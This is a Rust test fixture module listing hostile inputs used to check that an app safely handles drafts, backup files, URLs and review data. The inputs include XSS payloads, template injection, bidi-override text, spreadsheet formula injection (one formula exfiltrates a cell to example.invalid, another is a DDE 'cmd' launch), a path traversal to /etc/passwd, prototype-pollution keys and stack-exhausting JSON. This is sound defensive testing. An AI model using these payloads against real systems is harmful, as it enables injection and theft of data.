//! Words, files, addresses and reviews that were made to do harm, each with the reason why it is here.
//!
//! Whatever could run sets `globalThis.hostile`, and whatever could become an element has the class or the id
//! `hostile`: a page that has neither has only shown them.
#![allow(clippy::expect_used)]
#![allow(dead_code, reason = "each test takes what it needs")]

use serde_json::{Value, json};

/// A text that could do harm.
#[derive(Debug, Clone)]
pub struct Case {
    /// A short name.
    pub name: &'static str,
    /// Why it is here: what it does to a page, a table or a reader that is careless.
    pub why: &'static str,
    /// The text.
    pub text: String,
}

fn case(name: &'static str, why: &'static str, text: impl Into<String>) -> Case {
    Case {
        name,
        why,
        text: text.into(),
    }
}

/// Text that would be markup.
pub fn markup() -> Vec<Case> {
    vec![
        case(
            "script",
            "runs as soon as it is parsed as HTML",
            "<script class=hostile>globalThis.hostile=1</script>",
        ),
        case(
            "handler",
            "innerHTML runs no script, but an image that fails to load",
            "<img class=hostile src=x onerror=\"globalThis.hostile=1\">",
        ),
        case(
            "svg",
            "elements of another language have handlers and links too",
            "<svg class=hostile onload=globalThis.hostile=1><a href=\"javascript:globalThis.hostile=1\">x</a></svg>",
        ),
        case(
            "attribute",
            "leaves a quoted attribute",
            "\" class=\"hostile\" autofocus onfocus=\"globalThis.hostile=1\" x=\"",
        ),
        case(
            "attribute-single",
            "leaves an attribute in single quotes, and one without",
            "' class='hostile' onmouseover='globalThis.hostile=1' x=' onclick=globalThis.hostile=1 ",
        ),
        case(
            "end-of-element",
            "ends an element whose content is no markup",
            "</textarea></title></style></script></div></body><i class=hostile>x</i>",
        ),
        case(
            "comment",
            "ends comments and sections, or begins them",
            "--><i class=hostile>]]><![CDATA[<i class=hostile><!--",
        ),
        case(
            "entities",
            "is text already, and must not be decoded once more",
            "&lt;i class=hostile&gt;&amp;amp;&#x3c;i class=hostile&#62;&nbsp;",
        ),
        case(
            "template",
            "is a value to template languages",
            "{{constructor.constructor('globalThis.hostile=1')()}} ${globalThis.hostile=1} <%= 1 %>",
        ),
        case(
            "javascript-address",
            "runs where it becomes a link",
            "javascript:globalThis.hostile=1//https://example.invalid/",
        ),
        case(
            "frame",
            "brings another page along, and another base for all links",
            "<base href=//example.invalid/><iframe class=hostile srcdoc=\"<script>parent.hostile=1</script>\"></iframe>",
        ),
        case(
            "form",
            "names of elements become properties of the document",
            "<form id=hostile name=body action=//example.invalid/><input name=attributes autofocus>",
        ),
    ]
}

/// Text that turns other text around, or that nobody sees.
pub fn unseen() -> Vec<Case> {
    vec![
        case(
            "override",
            "turns all that follows it, past its own end",
            "\u{202e}る消を書下の員委",
        ),
        case(
            "override-in-isolates",
            "ends isolates that it did not begin",
            "承認\u{2069}\u{2069}\u{202c}\u{202c}\u{202e}否決\u{2066}",
        ),
        case(
            "isolates",
            "isolates without an end",
            "\u{2067}\u{2067}\u{2068}\u{202b}右から",
        ),
        case(
            "hebrew",
            "honest text that runs from the right, with brackets and digits",
            "שלום (עולם) 123 — 「西区」",
        ),
        case(
            "arabic",
            "likewise, with digits of its own",
            "مرحبا (٢٠٢٦)، كيف الحال؟",
        ),
        case(
            "zero-width",
            "words that look like others and are not",
            "区\u{200b}政\u{200d}会\u{feff}議\u{2060}\u{ad}",
        ),
        case(
            "control",
            "control characters: NUL ends strings elsewhere, ESC speaks to terminals",
            "前\u{0}\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31m\u{7f}\u{85}\u{9b}後",
        ),
        case(
            "separators",
            "line ends that JavaScript knew and JSON does not",
            "一\u{2028}二\u{2029}三\r四\r\n五",
        ),
        case(
            "noncharacters",
            "the last characters of planes, private ones, and tags",
            "x\u{fffe}\u{ffff}\u{fdd0}\u{10ffff}\u{e000}\u{e0001}\u{e0041}y",
        ),
        case(
            "piled",
            "marks that grow out of their line",
            ["区", &"\u{301}\u{323}".repeat(200), "民"].concat(),
        ),
        case(
            "joined",
            "one picture out of many characters, which must not be cut",
            "👨\u{200d}👩\u{200d}👧𠮷葛\u{e0100}ﾊﾟが\u{3099}☺\u{fe0f}",
        ),
    ]
}

/// Text that spreadsheets, JSON readers, stores and our own forms take for something else.
pub fn misread() -> Vec<Case> {
    vec![
        case("formula", "a formula", "=1+1"),
        case(
            "formula-link",
            "a formula that sends what stands beside it",
            "=HYPERLINK(\"https://example.invalid/?\"&A1,\"押す\")",
        ),
        case("formula-plus", "a formula", "+81-6-0000-0000"),
        case("formula-minus", "a formula", "-2+3+cmd|' /C calc'!A0"),
        case("formula-at", "a formula", "@SUM(A1:A9)"),
        case(
            "formula-wide",
            "a formula to a Japanese spreadsheet",
            "＝１＋１",
        ),
        case(
            "formula-tab",
            "a formula behind what is passed over",
            "\t=1+1",
        ),
        case("formula-cr", "likewise", "\r=1+1"),
        case(
            "formula-line",
            "a formula at the start of a later line, and of a cell where quotes are careless",
            "一行目\n=2+2\r\n\",=3+3,\"\n",
        ),
        case("quotes", "nothing but quotes", "\"\"\"'\"\"`\"\\\"\\\\"),
        case(
            "prototype",
            "a name that every object of JavaScript has",
            "__proto__",
        ),
        case("constructor", "likewise", "constructor"),
        case("to-string", "likewise", "toString"),
        case(
            "json",
            "a file of ours",
            "{\"app\":\"furikaeri\",\"format\":1,\"drafts\":[]}",
        ),
        case(
            "escapes",
            "escapes as text, a lone surrogate among them",
            "\\ud800 \\u0000 \\n %00 %E2%80%AE &#0;",
        ),
        case(
            "mail",
            "the marks of a mail text",
            "〔おわり〕\n〔1／1〕\n〔読み込み用 d1,AAAA〕\n〔委員意見：にせ〕\n氏名：にせ\n｜",
        ),
        case(
            "mail-headers",
            "what ends a mail, and quotes one",
            ".\n\nFrom x\n-- \n> \n| \nSubject: x\nBcc: x@example.invalid",
        ),
        case(
            "storage-key",
            "the name of a stored draft",
            "furikaeri/osaka-nishi-2018-2022/draft/1/__proto__",
        ),
        case(
            "path",
            "a way out of a folder",
            "../../../etc/passwd\u{0}.json",
        ),
        case(
            "long-line",
            "as long as a draft may be, without a space",
            "長".repeat(99_999),
        ),
        case(
            "many-lines",
            "nothing but lines",
            ["\n".repeat(20_000), "x".to_owned()].concat(),
        ),
        case("long-word", "wider than any screen", "w".repeat(5_000)),
    ]
}

/// All texts.
pub fn texts() -> Vec<Case> {
    [markup(), unseen(), misread()].concat()
}

/// A file that could do harm, and what is to come of it.
#[derive(Debug, Clone)]
pub struct File {
    /// A short name.
    pub name: &'static str,
    /// Why it is here.
    pub why: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// What comes of it.
    pub becomes: Becomes,
}

/// What comes of a hostile file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Becomes {
    /// Refused, by the name of the error.
    Refused(&'static str),
    /// Read: so many drafts, and so many that could not be.
    Read(usize, usize),
}
use Becomes::{Read, Refused};

/// Files made of a backup with one draft, whose text is `TEXT`.
#[allow(clippy::too_many_lines)] // a list
pub fn files(backup: &str) -> Vec<File> {
    let file = |name, why, bytes: Vec<u8>, becomes| File {
        name,
        why,
        bytes,
        becomes,
    };
    let with = |from: &str, to: &str| {
        assert!(backup.contains(from), "the backup has no {from}");
        backup.replacen(from, to, 1).into_bytes()
    };
    let deep = |open: &str| [&open.repeat(200_000), "1"].concat();
    let text = |escaped: &str| {
        with(
            "\"text\":\"TEXT\"",
            &["\"text\":\"", escaped, "\""].concat(),
        )
    };
    vec![
        file(
            "page",
            "a page in the place of a file",
            b"<!DOCTYPE html><script>globalThis.hostile=1</script>".to_vec(),
            Refused("NotJson"),
        ),
        file(
            "deep-lists",
            "fills the stack of a reader that calls itself",
            deep("[").into_bytes(),
            Refused("NotOurs"),
        ),
        file(
            "deep-objects",
            "likewise",
            deep("{\"a\":").into_bytes(),
            Refused("Cut"),
        ),
        file(
            "deep-field",
            "likewise, in a field that is passed over",
            with(
                "{",
                &["{\"more\":", &deep("["), &"]".repeat(200_000), ","].concat(),
            ),
            Read(1, 0),
        ),
        file(
            "cut",
            "ends in the middle",
            backup.as_bytes()[..backup.len() / 2].to_vec(),
            Refused("Cut"),
        ),
        file(
            "prototype",
            "gives all objects of JavaScript our name",
            b"{\"__proto__\":{\"app\":\"furikaeri\",\"format\":1},\"drafts\":[]}".to_vec(),
            Refused("NotOurs"),
        ),
        file(
            "prototype-beside",
            "fields that every object of JavaScript has",
            with(
                "{",
                "{\"__proto__\":{\"app\":\"x\"},\"constructor\":{\"prototype\":1},\"toString\":null,",
            ),
            Read(1, 0),
        ),
        file(
            "prototype-id",
            "a draft by such a name",
            with("\"id\":\"case\"", "\"id\":\"__proto__\""),
            Read(1, 0),
        ),
        file(
            "prototype-item",
            "on an item by such a name",
            with("\"item\":\"1-1-1-1\"", "\"item\":\"constructor\""),
            Read(1, 0),
        ),
        file(
            "twice",
            "says twice what it is",
            with("{", "{\"app\":\"other\","),
            Refused("NotOurs"),
        ),
        file(
            "huge-time",
            "a number that no clock shows",
            with("\"exported\":1", "\"exported\":1e999"),
            Refused("Damaged"),
        ),
        file(
            "time-over-the-edge",
            "one more than fits",
            with("\"exported\":1", "\"exported\":18446744073709551616"),
            Refused("Damaged"),
        ),
        file(
            "time-before-all",
            "before all time",
            with("\"exported\":1", "\"exported\":-1"),
            Refused("Damaged"),
        ),
        file(
            "time-at-the-edge",
            "the greatest number that fits",
            with("\"created\":1000", "\"created\":18446744073709551615"),
            Read(1, 0),
        ),
        file(
            "last-revision",
            "a revision that none can follow",
            with("\"number\":2", "\"number\":4294967295"),
            Read(1, 0),
        ),
        file(
            "revision-over-the-edge",
            "one more than fits",
            with("\"number\":2", "\"number\":4294967296"),
            Read(0, 1),
        ),
        file(
            "future",
            "from a version that will never be",
            with("\"format\":1", "\"format\":4294967295"),
            Refused("Newer"),
        ),
        file(
            "future-draft",
            "likewise, only its draft",
            with("\"schema\":1", "\"schema\":4294967295"),
            Read(0, 1),
        ),
        file(
            "lone-surrogate",
            "half a character",
            text("\\ud800"),
            Read(0, 1),
        ),
        file(
            "surrogates-the-wrong-way",
            "two halves in the wrong order",
            text("\\udc00\\ud800"),
            Read(0, 1),
        ),
        file(
            "nul",
            "a NUL, written as JSON may",
            text("a\\u0000b"),
            Read(1, 0),
        ),
        file(
            "raw-nul",
            "a NUL as it is, which JSON does not allow",
            text("a\u{0}b"),
            Refused("NotJson"),
        ),
        file(
            "override",
            "turns what follows it",
            text("\u{202e}x"),
            Read(1, 0),
        ),
        file(
            "too-long",
            "one character more than a draft may have",
            text(&"長".repeat(100_001)),
            Read(0, 1),
        ),
        file(
            "path-as-id",
            "an id that leads out of a folder",
            with("\"id\":\"case\"", "\"id\":\"../../x\""),
            Read(0, 1),
        ),
        file(
            "markup-as-item",
            "an item that is markup",
            with("\"item\":\"1-1-1-1\"", "\"item\":\"<i class=hostile>\""),
            Read(0, 1),
        ),
        file(
            "many-damaged",
            "a hundred thousand drafts that are none",
            with(
                "\"drafts\":[",
                &["\"drafts\":[", &"0,".repeat(100_000)].concat(),
            ),
            Read(1, 100_000),
        ),
        file(
            "other-review",
            "a title that is markup and turns the words around it",
            with("\"review\":{\"id\":\"", "\"review\":{\"id\":\"not-"),
            Refused("OtherReview"),
        ),
        file(
            "not-utf8",
            "bytes that are no text",
            [backup.as_bytes(), &[0xff, 0xc0]].concat(),
            Refused("NotText"),
        ),
        file(
            "half-utf16",
            "two bytes a character, and one left over",
            vec![0xff, 0xfe, b'{'],
            Refused("NotText"),
        ),
        file(
            "lone-surrogate-utf16",
            "half a character, in UTF-16",
            vec![0xff, 0xfe, 0x00, 0xd8, b'x', 0x00],
            Refused("NotText"),
        ),
        file(
            "blank",
            "white space of all kinds",
            "\u{feff} \n\t\u{3000}".into(),
            Refused("Empty"),
        ),
        file(
            "too-large",
            "more than is ever read",
            vec![b' '; 16 * 1024 * 1024 + 1],
            Refused("TooLarge"),
        ),
    ]
}

/// An address below the base that could do harm.
#[derive(Debug, Clone, Copy)]
pub struct Address {
    /// Path and query.
    pub path: &'static str,
    /// Why it is here.
    pub why: &'static str,
}

/// Addresses.
pub const ADDRESSES: [Address; 13] = [
    Address {
        path: "?q=%3Cscript%20class%3Dhostile%3EglobalThis.hostile%3D1%3C%2Fscript%3E",
        why: "markup as search words: they stand in the field",
    },
    Address {
        path: "?group=%22%3E%3Cimg%20class%3Dhostile%20src%3Dx%20onerror%3DglobalThis.hostile%3D1%3E",
        why: "markup as a value that is quoted back",
    },
    Address {
        path: "?%3Csvg%20class%3Dhostile%20onload%3DglobalThis.hostile%3D1%3E=1",
        why: "markup as a name that is quoted back",
    },
    Address {
        path: "?place=%E2%80%AE%E6%B6%88&%E2%81%A7%E2%80%AE=1",
        why: "overrides of the direction in what is quoted back",
    },
    Address {
        path: "?__proto__=1&constructor=2&toString=3&hasOwnProperty=4&__proto__[hostile]=5",
        why: "names that every object of JavaScript has",
    },
    Address {
        path: "?q=%00%01%1B%5B31m%7F&group=%00",
        why: "control characters",
    },
    Address {
        path: "?q=%FF%FE%80&%E3%81=%E3&group=%",
        why: "what decodes to no text",
    },
    Address {
        path: "?q=%ED%A0%80",
        why: "half a character, as bytes",
    },
    Address {
        path: "?&&&=&==&q&group&=q",
        why: "pairs that are none",
    },
    Address {
        path: "items/..%2F..%2Fdata%2Freview.json/",
        why: "a way out of a folder",
    },
    Address {
        path: "items/__proto__/",
        why: "an item by a name that every object has",
    },
    Address {
        path: "indicators/%3Cimg%20src%3Dx%20onerror%3DglobalThis.hostile%3D1%3E/",
        why: "markup as an id",
    },
    Address {
        path: "?q=javascript%3AglobalThis.hostile%3D1#\"><img class=hostile src=x onerror=globalThis.hostile=1>",
        why: "markup behind the number sign, which no server sees",
    },
];

/// Where a hostile text goes in a review's texts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// Before the text.
    Before,
    /// Behind it.
    Behind,
}

/// The review with a hostile text in every text that is free: titles, names, lines, notes, labels. Values stay,
/// since they have to stand in their lines.
pub fn poisoned(review: &Value, text: &str, place: Place) -> Value {
    fn walk(json: &mut Value, text: &str, place: Place) {
        match json {
            Value::Object(map) => {
                let is_line = map.contains_key("id") && map.contains_key("kind");
                for (name, value) in map {
                    let free = matches!(
                        name.as_str(),
                        "title"
                            | "office"
                            | "document"
                            | "publisher"
                            | "licence"
                            | "changes"
                            | "name"
                            | "date"
                            | "deadline"
                            | "hand_in"
                            | "label"
                            | "columns"
                            | "cell"
                    ) || is_line && name == "text";
                    match value {
                        Value::String(words) if free => put(words, text, place),
                        Value::Array(list) if free => list.iter_mut().for_each(|it| {
                            if let Value::String(words) = it {
                                put(words, text, place);
                            }
                        }),
                        other => walk(other, text, place),
                    }
                }
            }
            Value::Array(list) => list.iter_mut().for_each(|it| walk(it, text, place)),
            _ => {}
        }
    }
    let mut review = review.clone();
    walk(&mut review, text, place);
    review
}

fn put(words: &mut String, text: &str, place: Place) {
    *words = match place {
        Place::Before => [text, words.as_str()].concat(),
        Place::Behind => [words.as_str(), text].concat(),
    };
}

/// Changes of a review that have to be refused, each with the place that is told: a JSON pointer and what goes there.
pub fn refused_in_a_review() -> Vec<(&'static str, &'static str, Value)> {
    vec![
        (
            "a link that runs",
            "/source/licence_url",
            json!("javascript:globalThis.hostile=1"),
        ),
        (
            "a link to a page of its own",
            "/source/licence_url",
            json!("data:text/html,<script>hostile=1</script>"),
        ),
        (
            "a link that takes the page's scheme",
            "/source/licence_url",
            json!("//example.invalid/"),
        ),
        (
            "an override of the direction",
            "/title",
            json!("計画\u{202e}画計"),
        ),
        (
            "an isolate without an end",
            "/groups/0/name",
            json!("港\u{2067}"),
        ),
        ("a NUL", "/office", json!("役\u{0}場")),
        (
            "what speaks to terminals",
            "/source/changes",
            json!("a\u{1b}[31mb"),
        ),
        (
            "an id that leads out of a folder",
            "/groups/0/id",
            json!("../x"),
        ),
        ("an id that is markup", "/policies/0/id", json!("<i>")),
        (
            "a name that every object has",
            "/divisions/0/id",
            json!("__proto__"),
        ),
        (
            "an id that no path holds",
            "/groups/0/id",
            json!("a".repeat(65)),
        ),
        ("a year that is none", "/years/from", json!(1e300)),
        ("a list in the place of a text", "/title", json!([["x"]])),
        ("a label that is blank", "/policies/0/label", json!(" ")),
    ]
}

/// The tags of a piece of HTML or XML, each with the names of its attributes: what a text that became markup adds to.
pub fn shapes(markup: &str) -> Vec<String> {
    let mut shapes = Vec::new();
    let mut rest = markup;
    while let Some((_, tag)) = rest.split_once('<') {
        let mut quoted = false;
        let end = tag.find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let (tag, after) = tag.split_at(end.expect("a tag without an end"));
        let mut values = tag.split('"');
        let names: String = values.by_ref().step_by(2).collect();
        shapes.push(names);
        rest = after;
    }
    shapes
}
